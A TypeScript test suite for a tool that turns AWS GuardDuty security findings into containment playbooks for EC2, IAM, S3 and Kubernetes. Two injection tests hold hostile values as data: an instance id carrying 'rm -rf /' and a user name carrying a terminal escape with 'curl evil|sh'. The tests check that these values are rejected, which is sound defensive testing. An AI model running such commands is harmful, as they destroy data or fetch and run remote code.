import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import * as fx from '../../guardduty/fixtures.test-data.js';
import { type GuardDutyFinding, parseGuardDutyFinding } from '../../guardduty/schema.js';
import { playbookLabel, RECOMMENDATION_TABLE, recommend } from './table.js';

function parsed(raw: Record<string, unknown>): GuardDutyFinding {
  const result = parseGuardDutyFinding(raw, 'test');
  if (!result.ok) throw new Error(result.rejected.reason);
  return result.finding;
}

const plan = (raw: Record<string, unknown>) => {
  const r = recommend(parsed(raw));
  return { family: r.family, steps: r.recommendations.map((x) => [x.playbook, x.target ?? null]) };
};

describe('finding to response: one test per family of the table', () => {
  it('EC2 instance compromised: contain ec2 of resource.instanceDetails.instanceId', () => {
    assert.deepEqual(plan(fx.ec2Finding()), {
      family: 'EC2 instance compromised',
      steps: [['ec2', 'i-0a1b2c3d4e5f67890']],
    });
  });

  it('EC2 instance targeted from outside (SSH brute force against it): manual, not isolation', () => {
    const r = recommend(parsed(fx.ec2TargetFinding()));
    assert.equal(r.family, 'EC2 instance targeted from outside');
    assert.deepEqual(
      r.recommendations.map((x) => x.playbook),
      ['manual'],
    );
    assert.match(r.recommendations[0]?.reason ?? '', /security group/);
  });

  it('the same brute-force type with the instance as ACTOR is an instance compromise', () => {
    const raw = fx.ec2TargetFinding();
    (raw.service as Record<string, unknown>).resourceRole = 'ACTOR';
    assert.deepEqual(plan(raw).steps, [['ec2', 'i-0b1b2c3d4e5f67890']]);
  });

  it('InstanceCredentialExfiltration: contain iam-role of the instance role, then ec2 of the instance', () => {
    assert.deepEqual(plan(fx.exfiltrationFinding()), {
      family: 'instance credential exfiltration',
      steps: [
        ['iam-role', 'web-server-role'],
        ['ec2', 'i-0c1b2c3d4e5f67890'],
      ],
    });
  });

  it('InstanceCredentialExfiltration without instance details: role from the session, instance from its name', () => {
    const raw = fx.exfiltrationFinding();
    delete (raw.resource as Record<string, unknown>).instanceDetails;
    assert.deepEqual(plan(raw).steps, [
      ['iam-role', 'web-server-role'],
      ['ec2', 'i-0c1b2c3d4e5f67890'],
    ]);
  });

  it('InstanceCredentialExfiltration with only the instance profile: role named after the profile, flagged', () => {
    const raw = fx.exfiltrationFinding();
    delete (raw.resource as Record<string, unknown>).accessKeyDetails;
    const r = recommend(parsed(raw)).recommendations;
    assert.equal(r[0]?.target, 'web-server-role');
    assert.match(r[0]?.reason ?? '', /instance profile/);
  });

  it('IAMUser finding with an IAM user: contain iam-user of the long-term access key', () => {
    assert.deepEqual(plan(fx.iamUserFinding()), {
      family: 'IAM user credentials',
      steps: [['iam-user', 'AKIAIOSFODNN7EXAMPLE']],
    });
  });

  it('IAMUser finding with a session key (ASIA) of a user: contain the user by name', () => {
    const raw = fx.iamUserFinding('ops');
    ((raw.resource as Record<string, unknown>).accessKeyDetails as Record<string, unknown>).accessKeyId =
      'ASIAEXAMPLESESSION99';
    assert.deepEqual(plan(raw).steps, [['iam-user', 'ops']]);
  });

  it('IAMUser finding with an assumed role: contain iam-role', () => {
    assert.deepEqual(plan(fx.assumedRoleFinding()).steps, [['iam-role', 'ci-deploy']]);
  });

  it('IAMUser finding with a federated user: manual', () => {
    const raw = fx.iamUserFinding();
    ((raw.resource as Record<string, unknown>).accessKeyDetails as Record<string, unknown>).userType =
      'FederatedUser';
    const r = recommend(parsed(raw)).recommendations;
    assert.deepEqual(
      r.map((x) => x.playbook),
      ['manual'],
    );
    assert.match(r[0]?.reason ?? '', /FederatedUser/);
  });

  it('root credential use: manual (MFA, password, keys), never a playbook', () => {
    const r = recommend(parsed(fx.rootFinding()));
    assert.equal(r.family, 'root credential use');
    assert.deepEqual(
      r.recommendations.map((x) => x.playbook),
      ['manual'],
    );
    assert.match(r.recommendations[0]?.reason ?? '', /MFA/);
  });

  it('S3 policy / public access finding: contain s3-bucket of the bucket', () => {
    assert.deepEqual(plan(fx.s3PolicyFinding()), {
      family: 'S3 bucket policy and public access',
      steps: [['s3-bucket', 'customer-exports']],
    });
  });

  it('S3 data access (exfiltration): contain the IAM user and the bucket', () => {
    assert.deepEqual(plan(fx.s3ExfiltrationFinding()), {
      family: 'S3 data access',
      steps: [
        ['iam-user', 'AKIAI44QH8DHBEXAMPLE'],
        ['s3-bucket', 'payroll-archive'],
      ],
    });
  });

  it('Kubernetes finding without a node: manual (cordon, pod, Kubernetes credentials)', () => {
    const r = recommend(parsed(fx.kubernetesFinding()));
    assert.equal(r.family, 'Kubernetes and Runtime');
    assert.deepEqual(
      r.recommendations.map((x) => x.playbook),
      ['manual'],
    );
    assert.match(r.recommendations[0]?.reason ?? '', /cordon/);
  });

  it('Runtime finding on a known node: contain ec2 of the node', () => {
    assert.deepEqual(plan(fx.runtimeFinding()), {
      family: 'Kubernetes and Runtime',
      steps: [['ec2', 'i-0d1b2c3d4e5f67890']],
    });
  });

  it('anything else (Lambda): manual review', () => {
    const r = recommend(parsed(fx.lambdaFinding()));
    assert.equal(r.family, 'other');
    assert.equal(playbookLabel(r.recommendations), 'manual');
  });

  it('a hostile instance id is never offered as a target', () => {
    const raw = fx.ec2Finding();
    ((raw.resource as Record<string, unknown>).instanceDetails as Record<string, unknown>).instanceId =
      'i-0abc; rm -rf /';
    assert.deepEqual(
      recommend(parsed(raw)).recommendations.map((x) => x.playbook),
      ['manual'],
    );
  });

  it('every family in the table has a test above', () => {
    const tested = new Set([
      'root credential use',
      'instance credential exfiltration',
      'IAM user credentials',
      'S3 bucket policy and public access',
      'S3 data access',
      'EC2 instance targeted from outside',
      'EC2 instance compromised',
      'Kubernetes and Runtime',
    ]);
    assert.deepEqual(new Set(RECOMMENDATION_TABLE.map((r) => r.family)), tested);
  });

  it('labels combined playbooks for the finding model', () => {
    assert.equal(playbookLabel(recommend(parsed(fx.exfiltrationFinding())).recommendations), 'iam-role+ec2');
  });
});

describe('hostile principal names in findings', () => {
  it('a user name IAM would refuse becomes manual guidance, never a contain target', () => {
    const r = recommend(parsed(fx.iamUserFinding('bob\u001b[2J;curl evil|sh')));
    assert.deepEqual(
      r.recommendations.map((x) => [x.playbook, x.target]),
      [['manual', undefined]],
    );
    assert.match(r.recommendations[0]?.reason ?? '', /not a valid IAM name/);
  });
});
